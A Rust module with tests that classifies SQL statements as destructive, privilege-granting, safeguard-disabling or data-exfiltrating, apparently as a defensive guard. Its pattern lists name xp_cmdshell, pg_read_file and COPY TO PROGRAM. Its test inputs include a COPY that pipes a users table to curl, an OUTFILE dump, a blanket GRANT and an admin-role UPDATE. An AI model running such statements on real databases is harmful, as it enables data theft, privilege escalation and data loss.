//! Reads SQL text as statements, as far as their consequence goes.

/// What a statement would do to how much.
#[derive(Debug, PartialEq)]
pub struct Statement {
    /// What it does.
    pub act: Act,
    /// The table, database or user.
    pub object: String,
    /// True when a `WHERE` limits it and cannot be true of every row.
    pub limited: bool,
    /// The statement on one line.
    pub text: String,
}

/// Acts of statements.
#[derive(Debug, PartialEq, Clone, Copy)]
pub enum Act {
    /// `DROP`, `TRUNCATE`, `ALTER … DROP COLUMN`.
    Drop,
    /// `INSERT OVERWRITE`, `CREATE OR REPLACE TABLE`.
    Replace,
    /// `DELETE`.
    Delete,
    /// `UPDATE`.
    Update,
    /// `GRANT`, `CREATE USER`, `ALTER USER`, a role or password set in a table.
    Grant,
    /// Checks, triggers, row rules or logs switched off.
    Unguard,
    /// Data or a command leaves the database: `INTO OUTFILE`, `COPY … TO PROGRAM`.
    Reach,
}

impl Act {
    /// True for what is bad in a test database too.
    pub fn reaches_out(self) -> bool {
        self == Act::Reach
    }
}

/// How much of one statement is read. One that goes on behind it counts as
/// unlimited: a condition that is not read limits nothing.
const MAX_STATEMENT: usize = 16 * 1024;

/// How many statements of one text are read.
const MAX_STATEMENTS: usize = 200;

/// Reads the statements that change or end something. Text that does not begin
/// like a statement has none; what is rolled back does nothing.
pub fn statements(text: &str) -> Vec<Statement> {
    let mut done: Vec<Statement> = Vec::new();
    let mut open: Option<usize> = None;
    for part in split(text).into_iter().take(MAX_STATEMENTS) {
        if !FIRST.contains(&word(&words(part, 1), 0)) {
            continue; // most texts that are asked about are none
        }
        let words = words(part, usize::MAX);
        match (word(&words, 0), word(&words, 1)) {
            ("begin", "")
            | ("begin", "transaction" | "work" | "tran")
            | ("start", "transaction") => open = Some(done.len()),
            ("commit" | "end", _) => open = None,
            ("rollback" | "abort", next) if next != "to" => {
                if let Some(begun) = open.take() {
                    done.truncate(begun);
                }
            }
            ("begin", _) => {
                open = Some(done.len());
                done.extend(statement(part, &words[1..]));
            }
            _ => done.extend(statement(part, &words)),
        }
    }
    done
}

/// The words a statement begins with that is read any further.
const FIRST: [&str; 26] = [
    "abort", "alter", "begin", "call", "commit", "copy", "create", "delete", "drop", "end", "exec",
    "execute", "explain", "grant", "insert", "purge", "rollback", "select", "set", "start",
    "table", "truncate", "update", "use", "vacuum", "with",
];

/// Splits at `;` outside quotes and comments.
fn split(text: &str) -> Vec<&str> {
    let bytes = text.as_bytes();
    let mut parts = Vec::new();
    let (mut start, mut i) = (0, 0);
    while i < bytes.len() {
        match bytes[i] {
            quote @ (b'\'' | b'"' | b'`') => {
                let end = bytes[i + 1..].iter().position(|b| *b == quote);
                // A quote nobody closes hides nothing.
                i += end.map_or(0, |e| e + 1);
            }
            b'-' if bytes.get(i + 1) == Some(&b'-') => {
                i += bytes[i..]
                    .iter()
                    .position(|b| *b == b'\n')
                    .unwrap_or(bytes.len() - i - 1);
            }
            b'/' if bytes.get(i + 1) == Some(&b'*') => {
                let end = bytes[i..].windows(2).position(|w| w == b"*/");
                i += end.map_or(1, |e| e + 1);
            }
            b';' => {
                parts.push(&text[start..i]);
                start = i + 1;
            }
            _ => {}
        }
        i += 1;
    }
    parts.push(&text[start..]);
    parts
}

fn word(words: &[String], i: usize) -> &str {
    words.get(i).map_or("", String::as_str)
}

/// Kinds of things `DROP` drops.
const DROPPED: &[&str] = &[
    "table",
    "database",
    "schema",
    "index",
    "view",
    "user",
    "column",
    "role",
    "collection",
    "keyspace",
    "sequence",
    "type",
    "function",
    "trigger",
    "tablespace",
    "materialized",
    "login",
    "extension",
    "partition",
    "policy",
    "procedure",
];

/// Words between a verb and its object.
const BETWEEN: &[&str] = &[
    "table",
    "database",
    "schema",
    "index",
    "view",
    "user",
    "column",
    "role",
    "collection",
    "if",
    "exists",
    "only",
    "from",
    "keyspace",
    "sequence",
    "type",
    "function",
    "trigger",
    "tablespace",
    "materialized",
    "login",
    "concurrently",
    "not",
    "low_priority",
    "ignore",
    "extension",
    "partition",
    "policy",
    "procedure",
    "top",
    "into",
    "overwrite",
];

fn statement(text: &str, all: &[String]) -> Option<Statement> {
    let whole = text.len() <= MAX_STATEMENT;
    let mut words = all;
    // What may stand in front: `EXPLAIN ANALYZE` does it, `EXPLAIN` does not.
    if word(words, 0) == "explain" {
        if !words
            .iter()
            .take(3)
            .any(|w| w == "analyze" || w == "analyse")
        {
            return None;
        }
        let at = words
            .iter()
            .position(|w| w == "analyze" || w == "analyse")
            .unwrap_or(0);
        words = &words[at + 1..];
    }
    if word(words, 0) == "use" {
        words = words.get(2..).unwrap_or_default();
    }
    if word(words, 0) == "with" {
        let verb = |w: &String| matches!(w.as_str(), "delete" | "update");
        let at = words.iter().rposition(verb);
        words = &words[at.unwrap_or(0)..];
    }
    let (act, object) = act(words)?;
    let condition = words
        .iter()
        .rposition(|w| w == "where")
        .map(|i| &words[i + 1..]);
    let limited = whole && condition.is_some_and(|c| !always_true(c));
    Some(Statement {
        act,
        object,
        limited,
        text: text.split_whitespace().collect::<Vec<_>>().join(" "),
    })
}

fn act(words: &[String]) -> Option<(Act, String)> {
    let has = |w: &str| words.iter().any(|x| x == w);
    let object = || {
        words[1..]
            .iter()
            .find(|w| !BETWEEN.contains(&w.as_str()))
            .cloned()
            .unwrap_or_default()
    };
    let last = || words.last().cloned().unwrap_or_default();
    Some(match (word(words, 0), word(words, 1)) {
        ("drop", kind) if DROPPED.contains(&kind) => (Act::Drop, object()),
        ("truncate", next) if !next.starts_with('-') => (Act::Drop, object()),
        ("delete", "from" | "top" | "low_priority" | "ignore") => (Act::Delete, object()),
        ("delete", _) if has("from") && words.len() >= 4 => (Act::Delete, object()),
        ("update", _) if has("set") => {
            if sets_power(words) {
                (Act::Grant, object())
            } else {
                (Act::Update, object())
            }
        }
        ("grant", _) if has("to") => {
            let to = words.iter().rposition(|w| w == "to").unwrap_or(0);
            (Act::Grant, word(words, to + 1).to_owned())
        }
        ("create" | "alter", "user" | "role" | "login") => (Act::Grant, object()),
        ("alter", "table" | "database" | "system") if unguards(words) => (Act::Unguard, object()),
        ("alter", "table") if has("drop") => (Act::Drop, object()),
        ("alter", "table") if has("delete") => (Act::Delete, object()), // ClickHouse
        ("alter", "system") => (Act::Unguard, object()),
        ("set", _) if switches_off(words) => (Act::Unguard, word(words, 1).to_owned()),
        ("insert", "overwrite") => (Act::Replace, object()),
        ("create", "or") if word(words, 2) == "replace" && word(words, 3) == "table" => {
            (Act::Replace, word(words, 4).to_owned())
        }
        (
            "exec" | "execute" | "call",
            "sp_addsrvrolemember" | "sp_addrolemember" | "sp_addlogin",
        ) => (Act::Grant, word(words, 2).to_owned()),
        ("insert", "into") if inserts_power(words) => (Act::Grant, object()),
        ("copy", _) if has("program") => (Act::Reach, last()),
        ("select" | "table", _) if has("outfile") || has("dumpfile") => {
            let at = words
                .iter()
                .position(|w| w == "outfile" || w == "dumpfile")
                .unwrap_or(0);
            (Act::Reach, word(words, at + 1).to_owned())
        }
        ("select" | "exec" | "execute" | "call", _)
            if words.iter().any(|w| {
                matches!(
                    w.as_str(),
                    "xp_cmdshell"
                        | "master..xp_cmdshell"
                        | "sys_exec"
                        | "load_file"
                        | "lo_export"
                        | "pg_read_file"
                        | "dblink_exec"
                        | "utl_http.request"
                )
            }) =>
        {
            (Act::Reach, word(words, 1).to_owned())
        }
        // Old versions are the way back: `VACUUM t RETAIN 0 HOURS`.
        ("vacuum", _) if words.windows(2).any(|w| w[0] == "retain" && w[1] == "0") => {
            (Act::Drop, object())
        }
        ("purge", "binary") => (Act::Unguard, "binary logs".to_owned()),
        _ => return None,
    })
}

/// `SET role = 'admin'`, `SET password = …`, `SET is_admin = true`: columns
/// that say what somebody may do, before any `WHERE`.
fn sets_power(words: &[String]) -> bool {
    let from = words.iter().position(|w| w == "set").unwrap_or(0);
    let to = words
        .iter()
        .rposition(|w| w == "where")
        .unwrap_or(words.len())
        .max(from);
    words[from..to]
        .windows(3)
        .any(|w| w[1] == "=" && (powerful(&w[0], &w[2])))
}

fn powerful(column: &str, value: &str) -> bool {
    let column = column.rsplit('.').next().unwrap_or(column);
    let off = matches!(value, "false" | "0" | "null" | "n" | "no");
    match column {
        "is_admin" | "admin" | "is_superuser" | "is_staff" | "superuser" | "is_root"
        | "is_owner" => !off,
        "role" | "roles" | "user_role" | "group_name" | "access_level" | "permissions"
        | "privileges" => ["admin", "root", "owner", "super", "all", "*"]
            .iter()
            .any(|p| value.contains(p)),
        "password" | "password_hash" | "passwd" | "encrypted_password" | "hashed_password"
        | "api_key" | "totp_secret" | "mfa_secret" => true,
        "mfa_enabled" | "two_factor_enabled" | "totp_enabled" | "is_verified_mfa" => off,
        _ => false,
    }
}

fn inserts_power(words: &[String]) -> bool {
    let table = word(words, 2);
    let people = [
        "user",
        "admin",
        "account",
        "role",
        "grant",
        "permission",
        "member",
        "api_key",
        "token",
    ];
    people.iter().any(|p| table.contains(p))
        && words[3.min(words.len())..].iter().any(|w| {
            matches!(
                w.as_str(),
                "admin"
                    | "root"
                    | "owner"
                    | "superuser"
                    | "superadmin"
                    | "administrator"
                    | "is_admin"
                    | "is_superuser"
            )
        })
        || table.ends_with("admins")
}

/// `DISABLE TRIGGER`, `DISABLE ROW LEVEL SECURITY`, `SET RECOVERY SIMPLE`.
fn unguards(words: &[String]) -> bool {
    let has = |w: &str| words.iter().any(|x| x == w);
    has("disable") && (has("trigger") || has("row") || has("security"))
        || has("drop") && has("constraint")
        || has("nocheck")
        || has("no") && has("force") && has("row")
        || has("recovery") && has("simple")
}

/// `SET FOREIGN_KEY_CHECKS = 0`, `SET sql_log_bin = 0`, `SET GLOBAL general_log = off`.
fn switches_off(words: &[String]) -> bool {
    let nets = [
        "foreign_key_checks",
        "sql_log_bin",
        "general_log",
        "sql_safe_updates",
        "row_security",
        "log_statement",
        "session_replication_role",
        "fsync",
        "unique_checks",
    ];
    let checks = words
        .iter()
        .any(|w| w.contains("check") || w.contains("safe") || w.contains("audit"));
    let named = checks
        || words
            .iter()
            .any(|w| nets.iter().any(|n| w.trim_start_matches('@').ends_with(n)));
    named
        && words
            .iter()
            .any(|w| matches!(w.as_str(), "0" | "off" | "none" | "replica" | "false"))
}

/// True when one branch of an `OR`, or the whole, holds of every row.
fn always_true(condition: &[String]) -> bool {
    let end = condition
        .iter()
        .position(|w| matches!(w.as_str(), "returning" | "limit" | "order"))
        .unwrap_or(condition.len());
    condition[..end].split(|w| w == "or").any(|branch| {
        // Every part of an `AND` must hold.
        branch.split(|w| w == "and").all(|part| {
            let part: Vec<&str> = part.iter().map(String::as_str).collect();
            match part[..] {
                ["1" | "true"] => true,
                ["not", "false"] => true,
                [a, "=" | "<=" | ">=", b] => a == b,
                [a, "<>" | "!=", b] => a != b && is_value(a) && is_value(b),
                [_, "is", "not", "null"] => true,
                [_, "like", "%"] => true,
                ["id" | "rowid", ">", "0"] => true,
                _ => false,
            }
        })
    })
}

fn is_value(word: &str) -> bool {
    word.bytes().all(|b| b.is_ascii_digit())
}

/// The first `most` lower-case words and operators; quotes and comments undone.
fn words(text: &str, most: usize) -> Vec<String> {
    let text = crate::finding::short(text, MAX_STATEMENT);
    let mut words = Vec::new();
    let mut word = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '-' if chars.peek() == Some(&'-') => while chars.next_if(|c| *c != '\n').is_some() {},
            '#' if word.is_empty() => while chars.next_if(|c| *c != '\n').is_some() {},
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                let executed = chars.peek() == Some(&'!'); // MySQL runs `/*! … */`
                let mut star = false;
                while !executed && let Some(c) = chars.next() {
                    if star && c == '/' {
                        break;
                    }
                    star = c == '*';
                }
                flush(&mut word, &mut words);
            }
            '\'' | '"' | '`' | '[' | ']' => {}
            '=' | '>' | '<' | '!' => {
                flush(&mut word, &mut words);
                let mut operator = c.to_string();
                operator.extend(chars.next_if(|n| matches!(n, '=' | '>')));
                words.push(operator);
            }
            _ if c.is_whitespace() || matches!(c, ',' | '(' | ')') => flush(&mut word, &mut words),
            _ if c.is_ascii() => word.push(c.to_ascii_lowercase()),
            _ => word.extend(c.to_lowercase()),
        }
        if words.len() >= most {
            break;
        }
    }
    flush(&mut word, &mut words);
    words
}

fn flush(word: &mut String, words: &mut Vec<String>) {
    if !word.is_empty() {
        words.push(std::mem::take(word));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> Option<(Act, String, bool)> {
        statements(text)
            .into_iter()
            .map(|s| (s.act, s.object, s.limited))
            .next()
    }

    #[test]
    fn statements_are_read_with_their_limits() {
        for (text, act, object, limited) in [
            ("DROP TABLE IF EXISTS users", Act::Drop, "users", false),
            ("drop\n database  shop", Act::Drop, "shop", false),
            (
                "delete from orders where id = 5",
                Act::Delete,
                "orders",
                true,
            ),
            (
                "DELETE FROM orders WHERE id=5 OR 1=1",
                Act::Delete,
                "orders",
                false,
            ),
            (
                "DELETE FROM orders WHERE 1=1 AND id = 5",
                Act::Delete,
                "orders",
                true,
            ),
            (
                "DELETE FROM orders /* where id=1 */",
                Act::Delete,
                "orders",
                false,
            ),
            (
                "DELETE FROM orders -- WHERE id = 1",
                Act::Delete,
                "orders",
                false,
            ),
            (
                "DELETE FROM orders WHERE note = 'a;b'",
                Act::Delete,
                "orders",
                true,
            ),
            (
                "UPDATE users SET active = true",
                Act::Update,
                "users",
                false,
            ),
            (
                "UPDATE prices SET p = p * 2 WHERE true",
                Act::Update,
                "prices",
                false,
            ),
            (
                "UPDATE users SET role='admin' WHERE id=7",
                Act::Grant,
                "users",
                true,
            ),
            ("SELECT * FROM t; TRUNCATE t", Act::Drop, "t", false),
            (
                "WITH old AS (SELECT id FROM t) DELETE FROM t",
                Act::Delete,
                "t",
                false,
            ),
            ("EXPLAIN ANALYZE DELETE FROM t", Act::Delete, "t", false),
            (
                "GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'",
                Act::Grant,
                "bob@%",
                false,
            ),
            (
                "ALTER TABLE users DROP COLUMN email",
                Act::Drop,
                "users",
                false,
            ),
            (
                "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
                Act::Unguard,
                "users",
                false,
            ),
            (
                "SET FOREIGN_KEY_CHECKS = 0",
                Act::Unguard,
                "foreign_key_checks",
                false,
            ),
            (
                "COPY users TO PROGRAM 'curl x.example'",
                Act::Reach,
                "x.example",
                false,
            ),
            (
                "SELECT * FROM users INTO OUTFILE '/tmp/x'",
                Act::Reach,
                "/tmp/x",
                false,
            ),
            ("BEGIN; DELETE FROM t; COMMIT", Act::Delete, "t", false),
            (
                "delete t from t join u on t.id=u.id",
                Act::Delete,
                "t",
                false,
            ),
            (
                "INSERT INTO users (n, role) VALUES ('eve','admin')",
                Act::Grant,
                "users",
                false,
            ),
        ] {
            assert_eq!(
                read(text),
                Some((act, object.to_owned(), limited)),
                "{text}"
            );
        }
    }

    #[test]
    fn what_changes_nothing_is_no_statement() {
        for text in [
            "how to drop table safely",
            "explain delete from orders",
            "SELECT 'DROP TABLE users'",
            "SELECT * FROM deleted_items WHERE update = 1",
            "BEGIN; DELETE FROM orders; ROLLBACK;",
            "START TRANSACTION; UPDATE t SET a=1; SELECT count(*) FROM t; ROLLBACK",
            "INSERT INTO logs (a) VALUES (1)",
            "CREATE TABLE tmp_x (id int)",
            "CREATE INDEX CONCURRENTLY i ON t (a)",
            "-- DROP TABLE users\nSELECT 1",
            "SHOW GRANTS FOR bob",
            "VACUUM ANALYZE orders",
            "ALTER TABLE users ADD COLUMN nick text",
            "",
        ] {
            assert_eq!(read(text), None, "{text}");
        }
    }

    #[test]
    fn a_text_too_long_to_be_read_limits_nothing() {
        let text = ["DELETE FROM t WHERE id IN (", &"1,".repeat(20_000), "2)"].concat();
        assert_eq!(read(&text).map(|r| r.2), Some(false));
        for broken in [
            "'",
            "/*",
            "--",
            "delete from",
            "with",
            "explain analyze",
            "é';é",
            "update set",
        ] {
            let _ = statements(broken);
        }
    }
}
